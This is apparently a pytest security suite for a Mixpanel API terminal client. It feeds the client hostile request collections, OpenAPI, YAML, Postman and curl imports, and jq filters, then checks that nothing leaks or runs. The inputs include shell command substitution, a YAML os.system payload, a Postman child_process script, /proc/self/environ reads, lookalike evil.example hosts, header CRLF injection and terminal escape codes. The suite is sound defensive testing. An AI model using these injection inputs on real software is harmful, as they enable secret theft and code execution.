"""What strangers put into collections, files to import, settings and answers does no harm.

Each attack is a row: files, what the person runs, and what is said. What must never happen is
checked after each: a secret or a foreign file printed or sent, another host asked, a program
run, a file of the person changed, a control character on the terminal, a crash.
"""

from __future__ import annotations

import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
from msgspec import Struct

from mixtui.storage.paths import state_dir
from tests.secrets.searcher import find, secret
from tests.secrets.world import Echo, World

Content = str | bytes | Path
"""Of a file; a path = a link to it."""


class Attack(Struct, frozen=True):
    """What a stranger made, and what a person does with it."""

    files: dict[str, Content]
    """In the collection, which is the current folder; {outside} is a folder elsewhere."""
    commands: tuple[tuple[str, ...], ...]
    says: str = ""
    """Something of what is printed."""
    is_sent: bool = False
    """Whether the host of the person's own environment may get a request."""


ALL = (
    ("list",),
    ("list", "--json"),
    ("env", "list"),
    ("env", "show", "theirs"),
    ("env", "check"),
    ("doctor", "--read-secrets"),
    ("trust", ".", "--list"),
    ("history", "list"),
)
"""What somebody runs who looks at a collection."""
SEND = (
    *ALL,
    ("show", "a"),
    ("send", "a", "--yes"),
    ("send", "a", "--dry-run"),
    ("export", "curl", "a"),
)
READS = "reads the environment variable PLANTED"
HEAD = 'name = "a"\nmethod = "POST"\napi = "ingestion"\nurl = "/track"\n'
PLAIN = HEAD + '[body]\ntype = "json"\ntext = \'[{"event": "e"}]\'\n'


def request(more: str, head: str = HEAD) -> Attack:
    """A request with something in it that needs trust."""
    return Attack({"a.toml": head + more}, SEND, READS)


def file_body(path: str, **files: Content) -> Attack:
    body = HEAD + f'[body]\ntype = "file"\npath = "{path}"\n'
    return Attack({"a.toml": body, **files}, SEND, "sends the file ")


def environment(text: str, says: str, *commands: tuple[str, ...]) -> Attack:
    declared = f'[environments.theirs]\nproject_id = "1"\n{text}'
    send = ("send", "a", "--yes", "--env", "theirs")
    return Attack(
        {"mixtui.toml": declared, "a.toml": PLAIN}, (*SEND[:-3], *commands, send), says
    )


def url(text: str, says: str = "") -> Attack:
    head = f'name = "a"\nmethod = "GET"\napi = "query"\nurl = {json.dumps(text)}\n'
    return Attack({"a.toml": head}, SEND, says, is_sent=True)


def header(name: str, value: str, says: str = "", *, is_sent: bool = False) -> Attack:
    row = f"[[headers]]\nname = {json.dumps(name)}\nvalue = {json.dumps(value)}\n"
    return Attack({"a.toml": HEAD + row}, SEND, says, is_sent)


CONTROLS = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b31m\u202etxt.exe\u2066\u200b\r\x00"
ESCAPED = json.dumps(CONTROLS)[1:-1].replace("\\u0000", "")
VARIABLE = "{{env:PLANTED}}"
RUN = "touch {outside}/ran; echo x"

COLLECTIONS: dict[str, Attack] = {
    "a variable of the process in the URL": request(
        "", HEAD.replace("/track", f"/track/{VARIABLE}")
    ),
    "in a query": request(f'[[query]]\nname = "q"\nvalue = "{VARIABLE}"\n'),
    "in the name of a query": request(f'[[query]]\nname = "{VARIABLE}"\nvalue = "1"\n'),
    "in a header": request(f'[[headers]]\nname = "X"\nvalue = "{VARIABLE}"\n'),
    "in a body": request(
        f'[body]\ntype = "json"\ntext = \'[{{"event": "{VARIABLE}"}}]\'\n'
    ),
    "in the path of a body": request(f'[body]\ntype = "file"\npath = "{VARIABLE}"\n'),
    "in the default of an input": request(
        f'[[input]]\nname = "i"\ndefault = "{VARIABLE}"\n[[query]]\nname = "q"\nvalue = "{{{{i}}}}"\n'
    ),
    "in a path parameter": request(
        f'[[path]]\nname = "p"\nvalue = "{VARIABLE}"\n',
        HEAD.replace("/track", "/track/{p}"),
    ),
    "with blanks": request('[[query]]\nname = "q"\nvalue = "{{ env:PLANTED }}"\n'),
    "a file by its path": file_body("{outside}/key"),
    "a file above": file_body("../outside/key"),
    "a file in the home folder": file_body("~/key"),
    "a file behind a link": file_body("link", link=Path("{outside}/key")),
    "a file in a folder behind a link": file_body("link/key", link=Path("{outside}")),
    "the variables of the process as a file": file_body("/proc/self/environ"),
    "a host": environment(
        'hosts.ingestion = "{stranger}"\n', "sends requests to {stranger}"
    ),
    "a host that looks like Mixpanel's": environment(
        'hosts.ingestion = "https://mixpanel.com.evil.example"\n',
        "mixpanel.com.evil.example",
    ),
    "a host behind a user name": environment(
        'hosts.ingestion = "https://mixpanel.com@evil.example"\n', "base URL"
    ),
    "a host behind a backslash": environment(
        "hosts.ingestion = 'https://evil.example\\.mixpanel.com'\n", "base URL"
    ),
    "this machine as a host": environment(
        'hosts.ingestion = "http://localhost:1"\n',
        "sends requests to http://localhost:1",
    ),
    "Mixpanel without TLS": environment(
        'hosts.ingestion = "http://api.mixpanel.com"\n', "sends requests to http://api"
    ),
    "a command for a secret": environment(
        f'credentials.project_secret = {{ command = "{RUN}" }}\n', "uses the command"
    ),
    "a file as a secret": environment(
        'credentials.oauth_token = { file = "{outside}/key" }\n', "uses the file"
    ),
    "a variable as a secret": environment(
        'credentials.oauth_token = { env = "PLANTED" }\n', READS
    ),
    "an entry of the keyring": environment(
        'credentials.oauth_token = { keyring = "mixtui/planted" }\n',
        "uses the keyring entry",
    ),
    "a certificate authority": environment(
        'tls.ca_file = "ca.pem"\n', "uses the certificate file"
    ),
    "the stored secret of another environment": Attack(
        {
            "mixtui.toml": '[environments.orphan]\ncredentials.service_account = { username = "ci" }\n'
            'hosts.query = "{stranger}"\n',
            "a.toml": 'name = "a"\nmethod = "GET"\napi = "query"\nurl = "/query/events"\n',
        },
        (*ALL[:3], ("send", "a", "--env", "orphan")),
        "uses credentials.toml",
    ),
    "an environment of the same name": Attack(
        {
            "mixtui.toml": '[environments.variable]\nhosts.ingestion = "{stranger}"\n',
            "a.toml": PLAIN,
        },
        (*ALL[:3], ("send", "a", "--yes")),
        "is ignored",
        is_sent=True,
    ),
    "an environment to start with": Attack(
        {
            "mixtui.toml": 'default = "theirs"\n[environments.theirs]\nproject_id = "1"\n',
            "a.toml": PLAIN,
        },
        (("send", "a", "--yes"),),
        is_sent=True,
    ),
    "programs in the settings of a collection": Attack(
        {
            "mixtui.toml": f'editor = "{RUN}"\npager = "{RUN}"\nshell = "{RUN}"\n'
            f'[hooks]\npre_send = "{RUN}"\n[keys]\nsend = "x"\n',
            "a.toml": HEAD + f'[hooks]\npre_send = "{RUN}"\n',
            "config.toml": f'[keys]\nquit = "{RUN}"\n',
            "themes/evil.toml": f'primary = "{RUN}"\n',
            ".env": "PLANTED=1\n",
        },
        SEND,
        is_sent=True,
    ),
    "another host as the URL": url(
        "https://evil.example/x?k={{project_token}}", "evil.example"
    ),
    "another host without a scheme": url("//evil.example/x"),
    "another host behind a backslash": url("\\\\evil.example\\x"),
    "a user name that is a host": url("@evil.example/x"),
    "a port that is a host": url(":80@evil.example/x"),
    "dots that leave the base": url("/../../../x"),
    "dots in percent": url("/%2e%2e/%2e%2e/x"),
    "a line break in a URL": url("/x HTTP/1.1\r\nHost: evil.example\r\n\r\n", "URL"),
    "a tab in a URL": url("/\t/evil.example"),
    "a line break in a header": header("X", "a\r\nX-Evil: 1", "control or"),
    "a line break in the name of a header": header(
        "X: 1\r\nX-Evil", "1", "header name"
    ),
    "a NUL in a header": header("X", "a\x00b"),
    "a second length": header("Content-Length", "5"),
    "another framing": header("Transfer-Encoding", "chunked"),
    "control characters in every text": Attack(
        {
            "a.toml": f'name = "{ESCAPED}"\ndescription = "{ESCAPED}"\nmethod = "GET"\napi = "query"\n'
            f'url = "/query/events"\ntags = ["{ESCAPED}"]\n[[query]]\nname = "{ESCAPED}"\nvalue = "{ESCAPED}"\n',
            "b.toml": f'name = "{ESCAPED}"\nmethod = "{ESCAPED}"\n',
            "mixtui.toml": f'[environments."{ESCAPED}"]\nregion = "{ESCAPED}"\n[environments.x]\n"{ESCAPED}" = 1\n',
            "c\x1b[31m\u202e.toml": PLAIN,
            "d\n[2J.toml": "broken",
        },
        (
            *ALL,
            ("show", "a"),
            ("send", "a", "--dry-run"),
            ("send", "\x1b[2J"),
        ),
    ),
    "control characters in what is exported": Attack(
        {
            "a.toml": HEAD.replace('"a"', f'"a{ESCAPED}"')
            + f'[[headers]]\nname = "X"\nvalue = "\\u202e\\u2066"\n[body]\ntype = "text"\ntext = "{ESCAPED}"\n'
        },
        (
            *tuple(
                ("export", program, "a") for program in ("curl", "httpie", "python")
            ),
            ("show", "a"),
            ("send", "a", "--dry-run"),
            ("send", "a", "--yes"),
        ),
        is_sent=True,
    ),
    "markup in every text": Attack(
        {
            "a.toml": PLAIN.replace(
                '"a"', '"[link=https://evil.example]x[/] [@click=app.quit]y[/]"'
            ),
        },
        ALL,
        "[link=https://evil.example]x[/]",
    ),
    "names that are options": Attack(
        {"--help.toml": PLAIN, "-o.toml": PLAIN, "-rf/a.toml": PLAIN, "--.toml": PLAIN},
        (*ALL, ("send", "--yes", "--", "-o")),
        is_sent=True,
    ),
    "a folder in a folder in a folder": Attack(
        {"/".join(["d"] * 300) + "/a.toml": PLAIN}, ALL
    ),
    "links in a circle": Attack(
        {"loop": Path("."), "up": Path(".."), "root": Path("/")}, ALL
    ),
    "a device as a request": Attack(
        {
            "a.toml": Path("/dev/zero"),
            "b.toml": Path("/dev/stdin"),
            "mixtui.toml": Path("/dev/zero"),
        },
        (*ALL, ("show", "a"), ("send", "a")),
    ),
    "a pipe as a request": Attack(
        {"a.toml": b"PIPE"}, (*ALL, ("show", "a"), ("send", "a"))
    ),
    "tables in tables": Attack(
        {"a.toml": f"[{'.'.join(['a'] * 20_000)}]\n"}, (*ALL, ("send", "a"))
    ),
    "arrays in arrays": Attack(
        {"a.toml": f"a = {'[' * 100_000}"}, (*ALL, ("send", "a"))
    ),
    "dots in a key": Attack(
        {"a.toml": f"{'a.' * 20_000}a = 1\n"}, (*ALL, ("send", "a"))
    ),
    "a number without an end": Attack(
        {"a.toml": f"a = {'9' * 100_000}\n"}, (*ALL, ("send", "a"))
    ),
    "a body in a body": Attack(
        {"a.toml": HEAD + f"[body]\ntype = \"json\"\ntext = '{'[' * 100_000}'\n"},
        (*ALL, ("send", "a", "--yes"), ("show", "a")),
    ),
    "templates in templates": Attack(
        {
            "mixtui.toml": '[environments.theirs]\nproject_id = "1"\n'
            + "".join(
                f'variables.v{n} = "{{{{v{n + 1}}}}}{{{{v{n + 1}}}}}"\n'
                for n in range(64)
            ),
            "a.toml": HEAD.replace("/track", "/track/{{v0}}"),
        },
        (("send", "a", "--env", "theirs", "--dry-run"),),
    ),
}


def posting(schema: str) -> dict[str, object]:
    """A path whose body is of a schema of the same file."""
    body = {"application/json": {"schema": {"$ref": f"#/components/schemas/{schema}"}}}
    post = {"summary": "One", "requestBody": {"content": body}}
    return {"/events": {"post": post}}


def api_file(**more: Any) -> str:
    return json.dumps(
        {
            "openapi": "3.1.0",
            "info": {"title": "T", "version": "1"},
            "servers": [{"url": "https://mixpanel.com/api/query"}],
            "paths": {"/events": {"get": {"summary": "One"}}},
            **more,
        }
    )


def operation(**more: Any) -> str:
    return api_file(paths={"/events": {"get": {"summary": "One", **more}}})


def postman(*items: Any, **more: Any) -> str:
    schema = "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"
    return json.dumps(
        {"info": {"name": "Team", "schema": schema}, "item": items, **more}
    )


def item(name: str = "One", **more: Any) -> dict[str, Any]:
    target = "https://mixpanel.com/api/query/events"
    return {"name": name, "request": {"method": "POST", "url": target, **more}}


def imported(kind: str, content: Content, says: str = "") -> Attack:
    """A file that is imported, and whatever came of it sent."""
    return Attack(
        {"../vault/file": content},
        (
            (
                "import",
                kind,
                "../vault/file",
                *(("--save", "x") if kind == "curl" else ()),
            ),
            *ALL,
            ("send", "One", "--yes"),
            ("send", "x", "--yes"),
        ),
        says,
        is_sent=True,
    )


def template_texts() -> dict[str, Any]:
    return {
        "parameters": [
            {"name": "q", "in": "query", "required": True, "example": VARIABLE},
            {"name": "X-A", "in": "header", "required": True, "example": VARIABLE},
        ]
    }


UP = "../../../../outside/x"
IMPORTS: dict[str, Attack] = {
    "OpenAPI: templates in values": imported("openapi", operation(**template_texts())),
    "OpenAPI: a template in a path": imported(
        "openapi", api_file(paths={f"/{VARIABLE}": {"get": {"summary": "One"}}})
    ),
    "OpenAPI: folders above": imported(
        "openapi", operation(tags=[UP, "/etc", "~", "-rf", CONTROLS])
    ),
    "OpenAPI: a title above": imported(
        "openapi", api_file(info={"title": UP, "version": "1"})
    ),
    "OpenAPI: a summary above": imported(
        "openapi", operation(summary=UP, operationId=UP)
    ),
    "OpenAPI: control characters": imported(
        "openapi", operation(summary=CONTROLS, description=CONTROLS)
    ),
    "OpenAPI: a reference to a file": imported(
        "openapi", operation(parameters=[{"$ref": "file:///proc/self/environ"}])
    ),
    "OpenAPI: a reference to a host": imported(
        "openapi", operation(parameters=[{"$ref": "{stranger}/x.json"}])
    ),
    "OpenAPI: a reference to itself": imported(
        "openapi",
        api_file(
            components={"schemas": {"A": {"$ref": "#/components/schemas/A"}}},
            paths=posting("A"),
        ),
    ),
    "OpenAPI: schemas that multiply": imported(
        "openapi",
        api_file(
            components={
                "schemas": {
                    f"S{n}": {
                        "type": "object",
                        "properties": {
                            p: {"$ref": f"#/components/schemas/S{n + 1}"}
                            for p in "abcdefghij"
                        },
                    }
                    for n in range(30)
                }
            },
            paths=posting("S0"),
        ),
    ),
    "OpenAPI: another host": imported(
        "openapi", api_file(servers=[{"url": "{stranger}/api/query"}])
    ),
    "YAML: a program": imported(
        "openapi", "!!python/object/apply:os.system ['touch {outside}/ran']"
    ),
    "YAML: aliases that multiply": imported(
        "openapi",
        "a0: &a0 [x]\n"
        + "".join(
            f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12)
        ),
    ),
    "JSON: arrays in arrays": imported("openapi", "[" * 200_000),
    "Postman: templates": imported(
        "postman",
        postman(
            item(
                header=[{"key": "X", "value": VARIABLE}],
                url=f"https://mixpanel.com/api/query/events?a={VARIABLE}",
            ),
            variable=[{"key": "env:PLANTED", "value": "1"}],
        ),
    ),
    "Postman: a file": imported(
        "postman",
        postman(item(body={"mode": "file", "file": {"src": "{outside}/key"}})),
    ),
    "Postman: a file above": imported(
        "postman",
        postman(item(body={"mode": "file", "file": {"src": "../outside/key"}})),
    ),
    "Postman: a file of a form": imported(
        "postman",
        postman(
            item(
                body={
                    "mode": "formdata",
                    "formdata": [{"key": "a", "type": "file", "src": "{outside}/key"}],
                }
            )
        ),
    ),
    "Postman: folders above": imported(
        "postman", postman({"name": UP, "item": [item(UP)]})
    ),
    "Postman: a script": imported(
        "postman",
        postman(
            {
                **item(),
                "event": [
                    {
                        "listen": "prerequest",
                        "script": {
                            "exec": [
                                "require('child_process').exec('touch {outside}/ran')"
                            ]
                        },
                    }
                ],
            }
        ),
    ),
    "Postman: another host": imported(
        "postman", postman(item(url="{stranger}/api/query/events"))
    ),
    "Postman: folders in folders": imported(
        "postman",
        '{"info": {"name": "x", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/"}, "item": '
        + '[{"name": "a", "item": ' * 20_000,
    ),
    "curl: substitutions": imported(
        "curl",
        'curl https://mixpanel.com/api/query/events -d "$(touch {outside}/ran)`touch {outside}/ran`"',
    ),
    "curl: another command": imported(
        "curl", "curl https://mixpanel.com/api/query/events; touch {outside}/ran"
    ),
    "curl: another host": imported("curl", "curl {stranger}/api/query/events -u a:b"),
    "curl: options from a file": imported(
        "curl",
        "curl -K {outside}/key --netrc-file {outside}/key https://mixpanel.com/api/query/events",
    ),
    "curl: an output file": imported(
        "curl",
        "curl -o {outside}/victim -c {outside}/jar --trace {outside}/trace https://mixpanel.com/api/query/events",
    ),
    "curl: a template": imported(
        "curl", f"curl https://mixpanel.com/api/query/events -H 'X: {VARIABLE}'"
    ),
    "curl: a proxy": imported(
        "curl",
        "curl -x {stranger} --resolve mixpanel.com:443:127.0.0.1 --connect-to ::127.0.0.1:1 https://mixpanel.com/api/query/events",
    ),
    "curl: quotes without an end": imported(
        "curl", "curl https://mixpanel.com '" + "\\" * 50_000
    ),
    "not text": imported("openapi", bytes(range(256)) * 100),
}

FILTERS: dict[str, Attack] = {
    f"jq: {program}": Attack(
        {
            "a.toml": 'name = "a"\nmethod = "GET"\napi = "query"\nurl = "/query/events"\n',
            "m.jq": "def f: env;",
            "d.json": f'"{secret("data")}"',
        },
        (("send", "a", "--filter", program),),
        is_sent=True,
    )
    for program in (
        "env",
        "$ENV",
        "$ENV.PLANTED",
        "env.PLANTED | @base64",
        "input_filename",
        'include "m"; f',
        'import "m" as m; m::f',
        'import "d" as $d; $d',
        "get_search_list",
        '"x" | ltrimstr(env.PLANTED)',
        "[inputs]",
        "$__prog_args",
        "env | debug | stderr",
        "halt_error(env)",
    )
}


@pytest.mark.parametrize("name", [*COLLECTIONS, *IMPORTS, *FILTERS])
def test_an_attack_does_no_harm(
    name: str, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    attack = {**COLLECTIONS, **IMPORTS, **FILTERS}[name]
    assert isinstance(world.server.respond, Echo)
    world.server.respond.is_silent = True
    victim = Victim(world, monkeypatch)
    victim.receive(attack.files)
    printed = ""
    for command in attack.commands:
        done = world.mixtui(*command, terminal=True)
        printed += done.output
        assert done.status != 70, f"{command} crashed: {done.output}"
    assert not find(printed), printed
    assert not CONTROL.search(printed.replace(ERASED, "")), repr(printed)
    assert victim.fill(attack.says) in " ".join(printed.split()), printed
    assert not [r for r in world.server.received if secrets_of_process(r)]
    assert attack.is_sent or not world.server.received
    victim.assert_unharmed()


ERASED = "\r\x1b[K"
"""How the app itself erases its line of progress."""
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069]")


def secrets_of_process(received: bytes) -> tuple[str, ...]:
    """Return the secrets that only a stranger would send."""
    return tuple(hit for hit in find(received) if "variable" not in hit)


class Victim:
    """A person with files of their own, who was given files of a stranger."""

    def __init__(self, world: World, patch: pytest.MonkeyPatch) -> None:
        self._world = world
        self._outside = world.root / "outside"
        self._outside.mkdir()
        (self._outside / "key").write_text(secret("outside"))
        (self._outside / "victim").write_text(secret("victim"))
        patch.setenv("HOME", str(self._outside))
        (self._outside / "home").symlink_to(self._outside)
        (world.root / "vault").mkdir()
        for path in world.mixtui.folder.iterdir():
            path.unlink()
        state = world.root / "state" / "mixtui"
        (state / "trust.json").unlink()
        credentials = world.mixtui.config / "credentials.toml"
        credentials.write_text(
            credentials.read_text()
            + f'[orphan]\nservice_account = "{secret("orphan")}"\n'
        )
        self._before = self._files()

    def _files(self) -> dict[str, bytes]:
        """Return what is not the stranger's."""
        return {
            str(path): path.read_bytes()
            for folder in (self._outside, self._world.mixtui.config)
            for path in sorted(folder.rglob("*"))
            if path.is_file()
        }

    def fill(self, text: str) -> str:
        return text.replace("{outside}", str(self._outside)).replace(
            "{stranger}", self._world.stranger.origin
        )

    def receive(self, files: dict[str, Content]) -> None:
        """Unpack what a stranger made, into the current folder."""
        for name, content in {"mixtui.toml": "", **files}.items():
            path = self._world.mixtui.folder / name
            os.makedirs(path.parent, exist_ok=True)
            if isinstance(content, Path):
                path.symlink_to(self.fill(str(content)))
            elif content == b"PIPE":
                os.mkfifo(path)
            elif isinstance(content, bytes):
                path.write_bytes(content)
            else:
                path.write_text(self.fill(content))

    def assert_unharmed(self) -> None:
        assert not self._world.stranger.received, "another host was asked"
        assert not self._world.proxy.received, "another host was asked"
        assert self._files() == self._before, "a file was changed"
        assert not (state_dir() / "crashes").exists(), "it crashed"
        run = [each for each in self._world.children if "ran" in str(each)]
        assert not run, "a program of the stranger was run"
        here = {"config", "state", "data", "work", "tmp", "out", "outside", "vault"}
        assert {path.name for path in self._world.root.iterdir()} <= here
